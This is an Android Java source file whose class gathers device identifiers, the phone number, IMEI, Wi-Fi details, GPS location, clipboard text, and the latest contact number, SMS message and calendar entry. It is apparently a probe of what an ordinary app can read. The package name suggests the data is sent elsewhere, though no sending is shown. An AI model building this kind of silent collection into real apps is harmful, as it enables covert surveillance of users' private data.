package cn.example.sender;

import android.content.ClipData;
import android.content.ClipboardManager;
import android.content.Context;
import android.database.Cursor;
import android.location.Location;
import android.location.LocationManager;
import android.net.Uri;
import android.net.wifi.WifiInfo;
import android.net.wifi.WifiManager;
import android.provider.Settings;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;

/** Reads what Android lets an ordinary app read; what it refuses is left out. */
final class Items {
    private static final String PHONE_TYPE = "vnd.android.cursor.item/phone_v2";

    private final Context context;
    private final Map<String, String> found = new TreeMap<String, String>();

    Items(Context context) {
        this.context = context;
    }

    Map<String, String> read() {
        for (String item : new String[] {"settings", "telephony", "wifi", "location", "clipboard", "rows"}) {
            try {
                read(item);
            } catch (RuntimeException refused) {
                Log.i(Work.TAG, item + ": " + refused);
            }
        }
        return found;
    }

    private void read(String family) {
        switch (family) {
            case "settings":
                keep("android_id", Settings.Secure.getString(context.getContentResolver(), "android_id"));
                keep("oaid", Settings.Global.getString(context.getContentResolver(), "pps_oaid"));
                break;
            case "telephony":
                telephony((TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE));
                break;
            case "wifi":
                WifiInfo info = ((WifiManager) context.getSystemService(Context.WIFI_SERVICE)).getConnectionInfo();
                keep("ssid", info.getSSID().replace("\"", ""));
                keep("bssid", info.getBSSID());
                break;
            case "location":
                location((LocationManager) context.getSystemService(Context.LOCATION_SERVICE));
                break;
            case "clipboard":
                ClipData clip = ((ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE)).getPrimaryClip();
                keep("clipboard", clip == null ? null : clip.getItemAt(0).getText().toString());
                break;
            default:
                rows();
        }
    }

    private void telephony(TelephonyManager phone) {
        keep("phone", phone.getLine1Number());
        try {
            keep("imei", phone.getDeviceId());
        } catch (SecurityException refused) {
            Log.i(Work.TAG, "from Android 10 on an app is not told: " + refused);
        }
    }

    private void location(LocationManager manager) {
        Location place = manager.getLastKnownLocation(LocationManager.GPS_PROVIDER);
        if (place != null) {
            keep("latitude", String.format(Locale.ROOT, "%.6f", place.getLatitude()));
            keep("longitude", String.format(Locale.ROOT, "%.6f", place.getLongitude()));
        }
    }

    private void rows() {
        keep("contact_phone", last("content://com.android.contacts/data", "data1", "mimetype='" + PHONE_TYPE + "'"));
        keep("sms", last("content://sms/inbox", "body", null));
        keep("calendar", last("content://com.android.calendar/events", "title", null));
    }

    private String last(String address, String column, String where) {
        Cursor cursor = context.getContentResolver().query(Uri.parse(address), new String[] {column}, where, null, null);
        try {
            return cursor != null && cursor.moveToLast() ? cursor.getString(0) : null;
        } finally {
            if (cursor != null) {
                cursor.close();
            }
        }
    }

    private void keep(String item, String value) {
        if (value != null && !value.isEmpty()) {
            found.put(item, value);
        }
    }
}
